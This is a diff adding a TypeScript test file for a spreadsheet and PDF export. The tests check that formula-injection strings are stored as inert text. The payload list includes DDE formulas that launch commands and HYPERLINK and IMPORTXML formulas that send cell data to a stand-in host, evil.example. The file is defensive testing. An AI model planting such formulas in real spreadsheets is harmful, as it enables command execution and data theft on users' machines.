@@ -1,0 +1,106 @@
+/** Lists as files with types and as documents: read back, whatever people have written. */
+import { readXlsx } from 'hucre/xlsx';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { Cell } from '#domain/csv.ts';
+import { createPainter } from './painter.ts';
+import { writeSheet } from './sheet.ts';
+
+const table = (rows: readonly (readonly Cell[])[], dir: 'ltr' | 'rtl' = 'ltr') => ({
+  title: 'Ulm 2022',
+  rows,
+  lang: 'en',
+  dir,
+});
+const painter = createPainter({ error: () => {} });
+afterAll(() => painter.close());
+
+/** The rows of a file, and how many of its cells are formulas. */
+async function read(bytes: Uint8Array) {
+  const { sheets } = await readXlsx(bytes, { readStyles: true });
+  const [sheet] = sheets;
+  const formulas = [...(sheet!.cells ?? [])].filter(
+    ([, cell]) => cell.formula !== undefined || cell.type === 'formula',
+  );
+  return { rows: sheet!.rows, view: sheet!.view, formulas: formulas.length };
+}
+
+/** What people have put into such files (R3). */
+const payloads = [
+  "=cmd|' /C calc'!A0",
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
+  "=DDE('cmd','/C calc','x')",
+  '＝1+1',
+  '"=1+1"',
+  "'=1+1",
+];
+
+describe('a list as a spreadsheet with types', () => {
+  it.each(payloads)('shows %j as text in any column, and gives it back exactly (R3)', async (payload) => {
+    const rows = [['Ring', 'Team', 'Fancier'], ...[0, 1, 2].map((column) => ['a', 'b', 'c'].with(column, payload))];
+    const { rows: found, formulas } = await read(await writeSheet(table(rows)));
+    expect(formulas).toBe(0);
+    expect(found).toEqual(rows);
+  });
+
+  it('gives back texts of all scripts, also those that look like signs of the format', async () => {
+    const rows = [
+      ['A'],
+      ['_x0041_'],
+      ['_x005F_x0041_'],
+      ['決勝 😀'],
+      ['الحمام'],
+      ['นก'],
+      [' blanks '],
+      ['<b>&amp;</b>'],
+    ];
+    expect((await read(await writeSheet(table(rows)))).rows).toEqual(rows);
+  });
+
+  it('has numbers as numbers, days as days, and runs as its language does', async () => {
+    const rows: Cell[][] = [
+      ['Date', 'Speed', 'Name'],
+      [{ day: '2026-06-06' }, 1303.2573, null],
+    ];
+    const { rows: found, view } = await read(await writeSheet(table(rows, 'rtl')));
+    expect(found[1]).toEqual([new Date('2026-06-06T00:00:00Z'), 1303.2573, null]);
+    expect(view).toMatchObject({ rightToLeft: true });
+    expect((await read(await writeSheet(table(rows)))).view?.rightToLeft).toBeFalsy();
+  });
+
+  it('control: a formula that is written as one is seen', async () => {
+    const { writeXlsx } = await import('hucre/xlsx');
+    const bytes = await writeXlsx({
+      sheets: [{ name: 'A', rows: [[2]], cells: new Map([['0,0', { value: 2, formula: '1+1' }]]) }],
+    });
+    expect((await read(bytes)).formulas).toBe(1);
+  });
+});
+
+describe('a list as a file made beside the server', { timeout: 60_000 }, () => {
+  it('is a spreadsheet and a document, also of many rows and without any', async () => {
+    const rows: Cell[][] = [
+      ['Ring', 'Team', 'Date', 'Speed'],
+      ...Array.from({ length: 200 }, (_, i): Cell[] => [
+        `BE 26-${i}`,
+        payloads[i % payloads.length]!,
+        { day: '2026-06-06' },
+        i,
+      ]),
+    ];
+    const xlsx = await painter.file(table(rows), 'xlsx');
+    expect((await read(new Uint8Array(xlsx))).rows).toHaveLength(201);
+    const pdf = Buffer.from(await painter.file(table(rows), 'pdf'));
+    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
+    expect(pdf.length).toBeGreaterThan(10_000);
+    const empty = Buffer.from(await painter.file(table([['Ring']], 'rtl'), 'pdf'));
+    expect(empty.subarray(0, 5).toString()).toBe('%PDF-');
+  });
+});
